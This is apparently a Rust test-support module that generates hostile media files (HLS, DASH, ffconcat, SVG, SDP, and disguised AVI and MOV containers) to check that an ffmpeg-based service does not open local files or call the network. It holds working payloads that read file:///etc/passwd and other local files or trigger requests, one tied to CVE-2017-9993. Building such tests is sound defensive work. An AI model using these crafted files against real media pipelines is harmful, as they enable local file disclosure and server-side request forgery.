//! Masters that are made to open other files or to call somebody, and the ground on which they are tried.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::support::make;

/// One hostile file.
pub struct Form {
    pub name: &'static str,
    /// Where it is, under another name than the one that it is tried under.
    pub file: PathBuf,
    /// What our own look at its first bytes takes it for.
    pub worn: Worn,
    /// It is a video too, and may be transcoded as long as nothing is opened.
    pub fine: bool,
    /// What it gets from ffmpeg 5.1 when nothing holds it.
    pub gets: Gets,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Worn {
    /// What it is: text.
    Nothing,
    /// A container that is accepted, so that our own look lets it pass.
    Container,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Gets {
    Nothing,
    File,
    /// An answer or a call over TCP.
    Call,
    /// A socket that waits for somebody.
    Socket,
    Both,
}

impl Form {
    /// The demuxer of ffmpeg that is to fall for it.
    pub fn demuxer(&self) -> &'static str {
        match self.name.split([':', ' ']).next() {
            Some("ffconcat") => "concat",
            Some("svg") => "svg_pipe",
            Some(name) => name,
            None => "",
        }
    }
}

/// A folder with victims, and a port that nobody is to call.
pub struct Ground {
    root: tempfile::TempDir,
    port: u16,
    calls: Arc<AtomicUsize>,
}

impl Ground {
    pub fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let calls = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&calls);
        std::thread::spawn(move || {
            for _ in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        let ground = Self { root: tempfile::tempdir().unwrap(), port, calls };
        for folder in ["forms", "in", "tools"] {
            std::fs::create_dir(ground.path(folder)).unwrap();
        }
        // Plain red, so that it is known again in an output.
        let red = "-f lavfi -i color=red:s=320x180:r=25:d=1 -c:v libx264 -preset ultrafast -pix_fmt yuv420p";
        make(&ground.path("in"), "victim.ts", red);
        make(&ground.path("in"), "victim.mp4", red);
        make(&ground.path("in"), "victim.png", "-f lavfi -i color=red:s=320x180 -frames:v 1");
        std::fs::write(ground.path("in/passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
        let blue = "-f lavfi -i testsrc2=s=320x180:r=25:d=1 -c:v libx264 -preset ultrafast -pix_fmt yuv420p";
        make(&ground.path("forms"), "innocent.mp4", blue);
        ground
    }

    pub fn root(&self) -> &Path {
        self.root.path()
    }

    pub fn path(&self, name: &str) -> PathBuf {
        self.root.path().join(name)
    }

    /// The files that nobody is to open.
    pub fn victims(&self) -> [PathBuf; 4] {
        ["in/victim.ts", "in/victim.mp4", "in/victim.png", "in/passwd"].map(|name| self.path(name))
    }

    /// How often the port was called so far.
    pub fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }

    fn form(&self, name: &'static str, worn: Worn, gets: Gets, bytes: &[u8]) -> Form {
        let file = self.path("forms").join(name.replace([' ', ':'], "-"));
        std::fs::write(&file, bytes).unwrap();
        Form { name, file, worn, fine: name.starts_with("avi"), gets }
    }

    /// All forms.
    pub fn forms(&self) -> Vec<Form> {
        let mut forms = self.texts();
        forms.extend(self.worn());
        forms
    }

    /// The fourteen forms of text that make a careless ffmpeg open what they name.
    fn texts(&self) -> Vec<Form> {
        let (folder, call) = (self.path("in"), format!("http://127.0.0.1:{}", self.port));
        let folder = folder.display();
        let hls = |lines: &str| {
            format!("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n{lines}\n#EXT-X-ENDLIST\n")
        };
        let part = |url: &str| hls(&format!("#EXTINF:1.0,\n{url}"));
        let joined = |file: &str| format!("ffconcat version 1.0\nfile '{file}'\n");
        let table = [
            ("hls: file", Gets::File, part(&format!("file://{folder}/victim.ts"))),
            (
                "hls: passwd",
                Gets::Nothing,
                hls(&format!("#EXTINF:1.0,\nfile:///etc/passwd\n#EXTINF:1.0,\nfile://{folder}/passwd")),
            ),
            (
                "hls: concat",
                Gets::Nothing,
                part(&format!("concat:{call}/head.m3u8|file://{folder}/victim.ts")),
            ),
            ("hls: http", Gets::Call, part(&format!("{call}/a.ts"))),
            ("hls: variant", Gets::Call, hls(&format!("#EXT-X-STREAM-INF:BANDWIDTH=100000\n{call}/v.m3u8"))),
            (
                "hls: key",
                Gets::Both,
                hls(&format!(
                    "#EXT-X-KEY:METHOD=AES-128,URI=\"{call}/key\"\n#EXTINF:1.0,\nfile://{folder}/victim.ts"
                )),
            ),
            ("ffconcat: relative", Gets::File, joined("victim.mp4")),
            ("ffconcat: absolute", Gets::Nothing, joined(&format!("{folder}/victim.mp4"))),
            ("ffconcat: http", Gets::Nothing, joined(&format!("{call}/a.mp4"))),
            ("sdp", Gets::Socket, self.sdp()),
            ("dash: http", Gets::Call, dash(&format!("{call}/a.mp4"))),
            ("dash: file", Gets::File, dash(&format!("{folder}/victim.mp4"))),
            ("svg: file", Gets::Nothing, svg(&format!("file://{folder}/victim.png"))),
            ("svg: http", Gets::Nothing, svg(&format!("{call}/a.png"))),
        ];
        table.map(|(name, gets, text)| self.form(name, Worn::Nothing, gets, text.as_bytes())).into()
    }

    /// Forms that our own look cannot tell from a master.
    fn worn(&self) -> Vec<Form> {
        let folder = self.path("in");
        let list = format!("#EXTM3U\n#EXTINF:1.0,\nfile://{}/victim.ts\n#EXT-X-ENDLIST\n", folder.display());
        let manifest = dash(&format!("{}/victim.mp4", folder.display()));
        // A comment whose text is the type of a box.
        let manifest = manifest.replacen("<?xml version=\"1.0\"?>", "<!--free-->", 1);
        vec![
            self.form("dash in a box", Worn::Container, Gets::File, manifest.as_bytes()),
            // CVE-2017-9993, mended in ffmpeg since.
            self.form("avi: hls as subtitle", Worn::Container, Gets::Nothing, &avi(&folder, list.as_bytes())),
            self.form("mov: external track", Worn::Container, Gets::File, &external_track(&folder)),
        ]
    }

    fn sdp(&self) -> String {
        let port = self.port & !1;
        format!(
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n\
             a=rtpmap:96 H264/90000\n"
        )
    }
}

fn dash(url: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" \
         profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\" type=\"static\" mediaPresentationDuration=\"PT1S\" \
         minBufferTime=\"PT1S\"><Period duration=\"PT1S\"><AdaptationSet mimeType=\"video/mp4\" \
         contentType=\"video\"><Representation id=\"1\" bandwidth=\"1000\" width=\"320\" height=\"180\"><BaseURL>\
         {url}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )
}

fn svg(url: &str) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"320\" \
         height=\"180\"><image xlink:href=\"{url}\" width=\"320\" height=\"180\"/></svg>"
    )
}

fn chunk(kind: [u8; 4], body: &[u8]) -> Vec<u8> {
    let size = u32::try_from(body.len()).unwrap().to_le_bytes();
    let pad = &[0][..body.len() % 2];
    [&kind, &size[..], body, pad].concat()
}

fn words(numbers: &[u32]) -> Vec<u8> {
    numbers.iter().flat_map(|number| number.to_le_bytes()).collect()
}

/// An AVI of one JPEG picture, with `list` as its subtitle.
fn avi(folder: &Path, list: &[u8]) -> Vec<u8> {
    let picture = make(folder, "picture.jpg", "-f lavfi -i testsrc2=s=320x180 -frames:v 1 -pix_fmt yuvj420p");
    let picture = std::fs::read(picture).unwrap();
    let head = chunk(*b"avih", &words(&[40_000, 0, 0, 0, 1, 0, 2, 0, 320, 180, 0, 0, 0, 0]));
    let stream = |kind: [u8; 4], codec: [u8; 4], format: &[u8]| {
        let numbers = words(&[0, 0, 0, 1, 25, 0, 1, 0, u32::MAX, 0, 0, 0]);
        let body =
            [chunk(*b"strh", &[&kind, &codec, &numbers[..]].concat()), chunk(*b"strf", format)].concat();
        chunk(*b"LIST", &[b"strl", &body[..]].concat())
    };
    let bitmap =
        [words(&[40, 320, 180, 24 << 16 | 1]), b"MJPG".to_vec(), words(&[172_800, 0, 0, 0, 0])].concat();
    let streams = [stream(*b"vids", *b"MJPG", &bitmap), stream(*b"txts", [0; 4], &[])].concat();
    let subtitle = [
        b"GAB2\0\x02\0",
        &words(&[2])[..],
        b"\0\0",
        b"\x04\0",
        &words(&[u32::try_from(list.len()).unwrap()]),
        list,
    ]
    .concat();
    let movie = [&b"movi"[..], &chunk(*b"01tx", &subtitle), &chunk(*b"00dc", &picture)].concat();
    let body =
        [b"AVI ", &chunk(*b"LIST", &[b"hdrl", &head[..], &streams].concat())[..], &chunk(*b"LIST", &movie)];
    chunk(*b"RIFF", &body.concat())
}

/// A MOV whose picture is said to be in its neighbour `victim.mp4`.
fn external_track(folder: &Path) -> Vec<u8> {
    let own = "-f lavfi -i testsrc2=s=320x180:r=25:d=1 -c:v libx264 -preset ultrafast -pix_fmt yuv420p";
    let mut movie = std::fs::read(make(folder, "own.mov", own)).unwrap();
    let path = b"/victim.mp4\0";
    // A Macintosh alias record, as QuickTime's reference movies have it.
    let mut alias = vec![0; 10];
    alias.extend([0; 28]);
    alias.extend([0; 12]);
    alias.extend([0; 64]);
    alias.extend([0; 16]);
    alias.extend([0, 1, 0, 1]);
    alias.extend([0; 16]);
    alias.extend([0, 2, 0, 12]);
    alias.extend(path);
    alias.extend([0xff, 0xff, 0, 0]);
    let mut entry = u32::try_from(alias.len() + 12).unwrap().to_be_bytes().to_vec();
    entry.extend(b"alis\0\0\0\0");
    entry.extend(alias);
    let at = |name: &[u8]| movie.windows(4).rposition(|window| window == name).unwrap() - 4;
    // The boxes around the entry grow; the index is last, so that nothing else moves.
    let around = [b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"].map(|name| at(name));
    let begin = at(b"dref") + 16;
    let old = u32::from_be_bytes(movie[begin..begin + 4].try_into().unwrap()) as usize;
    for place in around {
        let size = u32::from_be_bytes(movie[place..place + 4].try_into().unwrap()) as usize;
        let size = u32::try_from(size + entry.len() - old).unwrap();
        movie[place..place + 4].copy_from_slice(&size.to_be_bytes());
    }
    movie.splice(begin..begin + old, entry);
    movie
}
